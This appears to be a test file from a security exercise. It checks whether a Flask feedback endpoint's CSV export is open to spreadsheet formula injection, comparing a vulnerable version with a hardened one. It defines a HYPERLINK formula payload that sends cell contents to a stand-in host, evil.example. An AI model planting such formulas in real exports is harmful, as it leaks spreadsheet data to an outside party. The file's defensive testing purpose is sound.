import csv
import io

FORMULA = "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")"


def formulas(text):
    """Cells that a spreadsheet takes for formulas."""
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row if cell[:1] in tuple("=+-@\t\r")]


def send(module, tmp_path, **form):
    module.app.config["FEEDBACK"] = str(tmp_path / "feedback.csv")
    return module.app.test_client().post("/feedback", data=form)


def attack(module, tmp_path) -> bool:
    send(module, tmp_path, name="Eve", comment=FORMULA)
    return bool(formulas((tmp_path / "feedback.csv").read_text()))


def test_honest_input(program, tmp_path):
    assert send(program, tmp_path, name="Ann", comment='Nice, really "nice"').status_code == 201
    assert send(program, tmp_path, name="Bob").status_code == 400
    rows = list(csv.reader((tmp_path / "feedback.csv").open(newline="")))
    assert [row[1:] for row in rows] == [["Ann", 'Nice, really "nice"']]


def test_attack_succeeds_on_vulnerable(vulnerable, tmp_path):
    assert attack(vulnerable, tmp_path)


def test_attack_fails_on_hardened(hardened, tmp_path):
    assert not attack(hardened, tmp_path)
